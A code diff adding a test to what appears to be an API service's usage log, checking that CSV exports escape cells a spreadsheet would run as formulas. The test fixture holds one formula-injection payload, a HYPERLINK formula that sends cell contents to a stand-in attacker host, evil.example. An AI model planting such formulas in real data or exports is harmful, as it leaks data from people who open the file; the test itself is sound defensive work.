@@ -1,5 +1,6 @@
 import { runDurableObjectAlarm } from "cloudflare:test";
 import { describe, expect, it } from "vitest";
+import { csvCell } from "../../src/routes/usage-query";
 import { adminFetch, api, chat, ledgerOf, newTenant, settledAll } from "../support/client";
 
 const HELLO = [{ role: "user", content: "Hello there" }];
@@ -71,6 +72,18 @@ describe("the usage log", () => {
     const jsonl = await (await api("/usage?format=jsonl", key)).text();
     const rows = jsonl.trim().split("\n").map((l) => JSON.parse(l) as { requestId: string });
     expect(rows.map((r) => r.requestId).sort()).toEqual([...ids].sort());
+  });
+
+  it("writes a cell that a spreadsheet would run as a formula as text: a client's user, say", async () => {
+    const { tenantId, key } = await newTenant();
+    const user = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    expect((await chat(key, { model: "chat-pool", messages: HELLO, max_tokens: 8, user })).status).toBe(200);
+    await settledAll(tenantId);
+    const [header, row] = (await (await adminFetch(`/tenants/${tenantId}/usage?format=csv`)).text()).trim().split("\n");
+    expect(header!.split(",").at(18)).toBe("user");
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
+    // Each leading character a spreadsheet reads as a formula; text otherwise, and numbers, as they are.
+    expect(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=a,b", "plain", "a=b", -1, 0, null].map(csvCell)).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", `"'=a,b"`, "plain", "a=b", "-1", "0", ""]);
   });
 
   it("keeps tenants apart", async () => {
